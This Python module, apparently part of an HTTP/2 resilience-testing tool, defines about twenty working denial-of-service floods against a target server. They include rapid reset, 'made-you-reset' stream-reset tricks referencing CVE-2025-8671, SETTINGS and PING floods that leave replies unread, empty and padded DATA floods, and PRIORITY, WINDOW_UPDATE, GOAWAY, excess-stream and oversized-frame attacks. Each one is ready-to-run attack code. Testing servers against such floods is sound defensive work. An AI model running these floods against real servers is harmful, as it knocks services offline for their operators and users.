"""Frames that are cheap to send, by the hundred thousand."""

import time

from .case import Flood, Result
from .client import Client
from .frames import (
    DATA,
    END_HEADERS,
    GOAWAY,
    LARGEST_WINDOW,
    MAX_CONCURRENT_STREAMS,
    PADDED,
    PING,
    PRIORITY,
    SETTINGS,
    fields,
    frame,
    frame_head,
    get,
    headers,
    number,
    post,
    priority,
    reset,
    setting,
    window_update,
)
from .pouring import pour, poured, stream

PING_FRAME = frame(PING, 0, 0, b"12345678")
SETTINGS_FRAME = frame(SETTINGS, payload=setting(MAX_CONCURRENT_STREAMS, 100))

#: What makes the server reset a stream by itself, after a valid request on it (CVE-2025-8671).
MADE_RESETS = {
    "window-zero": lambda stream: window_update(stream, 0),
    "window-overflow": lambda stream: window_update(stream, LARGEST_WINDOW) * 2,
    "data-after-end": lambda stream: frame(DATA, 0, stream, b"x"),
    "headers-after-end": lambda stream: headers(stream, b"\x82"),
    "self-priority": lambda stream: frame(PRIORITY, 0, stream, priority(stream)),
    "priority-short": lambda stream: frame(PRIORITY, 0, stream, b"1234"),
}


def _asked_and_reset(place):
    return headers(stream(place), get()) + reset(stream(place))


def rapid_reset(stage):
    return poured(Client(stage.encrypted), 10_000, _asked_and_reset, 25)


def rapid_reset_slow_batches(stage):
    return poured(Client(stage.encrypted), 3_000, _asked_and_reset, 20, pause=0.02)


def _made_you_reset(offence):
    def attack(stage):
        client = Client(stage.encrypted)
        note = pour(client, 5_000, lambda n: headers(stream(n), get()) + offence(stream(n)), 25)
        return Result(f"{note}, {len(client.resets)} resets by the server", (client,))

    return attack


def settings_flood(stage):
    client = Client(stage.encrypted)
    note = pour(client, 100_000, lambda _: SETTINGS_FRAME, 300)
    return Result(f"{note}, {client.acknowledged} acknowledged", (client,))


def settings_flood_unread(stage):
    return _unread(stage, SETTINGS_FRAME)


def ping_flood(stage):
    client = Client(stage.encrypted)
    note = pour(client, 100_000, lambda _: PING_FRAME, 300)
    return Result(f"{note}, {client.acknowledged} acknowledged", (client,))


def ping_flood_unread(stage):
    return _unread(stage, PING_FRAME)


def _unread(stage, asking):
    """Asks for answers, and reads none of them."""
    client, sent = Client(stage.encrypted, receive_buffer=4096), 0
    client.become_impatient()
    began = time.monotonic()
    while time.monotonic() - began < 5 and client.send(asking * 300):
        sent += 300
    return Result(f"{sent} frames before the server stopped reading or closed, {client.fate()}", (client,))


def empty_data_flood(stage):
    client = Client(stage.encrypted)
    client.send(headers(1, post() + fields((b"content-length", b"10")), END_HEADERS))
    return poured(client, 200_000, lambda _: frame(DATA, 0, 1), 1_000)


def empty_data_flood_undrained(stage):
    """Nobody reads the content, as the origin server takes its time (RUSTSEC-2026-0258)."""
    client = Client(stage.encrypted)
    client.send(headers(1, post(b"/slow-5") + fields((b"content-length", b"10")), END_HEADERS))
    return poured(client, 400_000, lambda _: frame(DATA, 0, 1), 2_000)


def padded_empty_data_flood(stage):
    client = Client(stage.encrypted)
    client.send(headers(1, post(), END_HEADERS))
    return poured(client, 200_000, lambda _: frame(DATA, PADDED, 1, b"\x00"), 1_000)


def priority_flood(stage):
    def change(place):
        depends_on = 2 * (place * 7 % 1000) + 3
        return frame(PRIORITY, 0, stream(place % 1000), priority(depends_on, place % 256))

    return poured(Client(stage.encrypted), 200_000, change, 1_000)


def unknown_frame_flood(stage):
    return poured(Client(stage.encrypted), 200_000, lambda _: frame(0xBE, 0, 0, b"x"), 1_000)


def window_update_flood(stage):
    return poured(Client(stage.encrypted), 200_000, lambda _: window_update(0, 1), 1_000)


def over_max_streams(stage):
    client = Client(stage.encrypted)
    limit = client.settings.get(MAX_CONCURRENT_STREAMS)
    note = pour(client, 3_000, lambda n: headers(stream(n), get(), END_HEADERS), 100)
    return Result(f"{note}, limit told {limit}, {len(client.resets)} refused", (client,))


def goaway_flood(stage):
    return poured(Client(stage.encrypted), 50_000, lambda _: frame(GOAWAY, 0, 0, number(0) + number(0)), 500)


def oversized_frame_header(stage):
    """A frame of 16 MiB is announced, and sent for as long as the server takes it."""
    client = Client(stage.encrypted)
    client.send(frame_head(0xFFFFFF, DATA, 0, 1))
    return poured(client, 255, lambda _: b"x" * 65536, 1, seconds=4.0)


FLOODS = [
    Flood.of(rapid_reset),
    Flood.of(rapid_reset_slow_batches),
    *(Flood(f"made-you-reset-{name}", _made_you_reset(offence)) for name, offence in MADE_RESETS.items()),
    Flood.of(settings_flood),
    Flood.of(settings_flood_unread),
    Flood.of(ping_flood),
    Flood.of(ping_flood_unread),
    Flood.of(empty_data_flood),
    Flood.of(empty_data_flood_undrained),
    Flood.of(padded_empty_data_flood),
    Flood.of(priority_flood),
    Flood.of(unknown_frame_flood),
    Flood.of(window_update_flood),
    Flood.of(over_max_streams),
    Flood.of(goaway_flood),
    Flood.of(oversized_frame_header),
]
